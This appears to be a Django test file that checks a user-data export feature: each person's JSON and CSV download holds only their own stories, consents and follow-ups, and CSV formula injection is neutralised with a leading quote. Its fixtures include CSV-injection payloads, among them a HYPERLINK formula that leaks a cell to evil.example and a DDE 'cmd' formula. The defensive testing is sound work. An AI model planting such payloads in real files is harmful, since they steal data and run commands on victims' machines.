"""The data download: everything about the person and nothing about anyone else, as JSON and as
a CSV that a spreadsheet opens without running anything."""

import csv
import io
import json

import pytest
from django.test import Client
from django.urls import reverse

from accounts.services import author_for_email
from followups.models import FollowUp
from hindsight.testing import make_story, make_treatment
from stories.models import CONSENT_TEXTS, CONSENT_VERSION, Story, StoryConsent

pytestmark = pytest.mark.django_db

EMAIL = "anna@example.com"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Values a spreadsheet would run as formulas if written as they are.
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "body": "+SUM(1,2) was how my week added up.",
    "city": "@Katowice",
    "clinic": "-2+3 Clinic",
    "treated_by": "\tDr Tab",
    "complications_other": "\rcarriage return",
    "display_name": "=Anna",
}
FOLLOWUP_BODY = "=cmd|' /C calc'!A0"


def add_consents(story: Story) -> None:
    for purpose, granted in (("publish", story.consent_publish),
                             ("statistics", story.consent_statistics)):
        StoryConsent.objects.create(story=story, purpose=purpose, granted=granted,
                                    version=CONSENT_VERSION, text=str(CONSENT_TEXTS[purpose]))


@pytest.fixture
def people():
    treatment = make_treatment()
    anna = author_for_email(EMAIL)
    story = make_story(treatment, author=anna, email=EMAIL, **HOSTILE)
    add_consents(story)
    StoryConsent.objects.create(story=story, purpose="statistics", granted=False,
                                version=CONSENT_VERSION, text=str(CONSENT_TEXTS["statistics"]))
    Story.objects.filter(pk=story.pk).update(consent_statistics=False)
    FollowUp.objects.create(story=story, reported_on="2012-03-01", result="little_better",
                            body=FOLLOWUP_BODY, status=FollowUp.Status.APPROVED)
    FollowUp.objects.create(story=story, reported_on="2013-03-01", result="no_change",
                            body="Waiting to be read.")

    ben = author_for_email("ben@example.com")
    bens = make_story(treatment, author=ben, email="ben@example.com", title="Ben's own story",
                      body="Ben's words, not Anna's.", display_name="Ben", city="Sofia")
    add_consents(bens)
    FollowUp.objects.create(story=bens, reported_on="2012-06-01", result="much_worse",
                            body="Ben's follow-up.")
    return {"anna": anna, "story": story, "ben": ben}


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def export(user, fmt: str):
    return signed_in(user).get(reverse("accounts:export", args=[fmt]))


BENS = ["ben@example.com", "Ben's own story", "Ben's words", "Ben's follow-up", "Sofia"]


def test_the_json_export_holds_the_stories_consents_with_dates_and_follow_ups(people):
    response = export(people["anna"], "json")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    data = json.loads(response.content)
    assert data["account"]["emails"] == [EMAIL]
    [story] = data["stories"]
    assert story["title"] == HOSTILE["title"]
    assert story["body"] == HOSTILE["body"]
    assert story["city"] == HOSTILE["city"]
    assert story["email"] == EMAIL
    assert story["consent_statistics"] is False
    consents = [(c["purpose"], c["granted"]) for c in story["consents"]]
    assert consents == [("publish", True), ("statistics", True), ("statistics", False)]
    for consent in story["consents"]:
        assert consent["recorded_at"][:4].isdigit() and "T" in consent["recorded_at"]
        assert consent["version"] == CONSENT_VERSION
        assert consent["text"]
    bodies = {f["body"]: f["status"] for f in story["followups"]}
    assert bodies == {FOLLOWUP_BODY: "approved", "Waiting to be read.": "pending"}
    assert {f["reported_on"] for f in story["followups"]} == {"2012-03-01", "2013-03-01"}


def test_the_json_export_holds_nothing_of_another_author(people):
    text = export(people["anna"], "json").content.decode()

    for word in BENS:
        assert word not in text


def test_the_json_export_of_the_other_author_holds_nothing_of_the_first(people):
    text = export(people["ben"], "json").content.decode()

    assert "Ben's own story" in text
    for word in [EMAIL, "HYPERLINK", "SUM(1,2)", FOLLOWUP_BODY, "Waiting to be read."]:
        assert word not in text


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def test_the_csv_export_holds_the_same_records(people):
    response = export(people["anna"], "csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = _csv_rows(response)
    assert rows[0] == ["record", "id", "field", "value"]
    records = {row[0] for row in rows[1:]}
    assert {"account", "story", "consent", "followup"} <= records
    consent_dates = [row[3] for row in rows if row[0] == "consent" and row[2] == "recorded_at"]
    assert len(consent_dates) == 3 and all("T" in date for date in consent_dates)
    followup_bodies = [row[3] for row in rows if row[0] == "followup" and row[2] == "body"]
    assert len(followup_bodies) == 2
    text = response.content.decode()
    for word in BENS:
        assert word not in text


def test_no_csv_cell_starts_like_a_formula(people):
    rows = _csv_rows(export(people["anna"], "csv"))

    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (row, cell)


def test_risky_values_are_kept_with_a_leading_quote_not_dropped(people):
    rows = _csv_rows(export(people["anna"], "csv"))
    values = {(row[0], row[2]): row[3] for row in rows if row[0] == "story"}

    for field, value in HOSTILE.items():
        assert values[("story", field)] == "'" + value
    followup_bodies = [row[3] for row in rows if row[0] == "followup" and row[2] == "body"]
    assert "'" + FOLLOWUP_BODY in followup_bodies


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_the_export_is_a_download_that_is_never_stored(people, fmt):
    response = export(people["anna"], fmt)

    assert response["Content-Disposition"] == f'attachment; filename="hindsight-my-data.{fmt}"'
    assert response["Cache-Control"] == "no-store"


def test_an_unknown_format_is_not_found(people):
    assert export(people["anna"], "xml").status_code == 404


def test_the_export_includes_a_story_shared_from_the_address_but_not_yet_confirmed(people):
    """Erasure removes stories shared from the person's address even before they confirmed
    them; the download of 'everything the site holds' should list them too."""
    make_story(status=Story.Status.UNCONFIRMED, email=EMAIL, title="Not confirmed yet")

    data = json.loads(export(people["anna"], "json").content)

    assert "Not confirmed yet" in {story["title"] for story in data["stories"]}
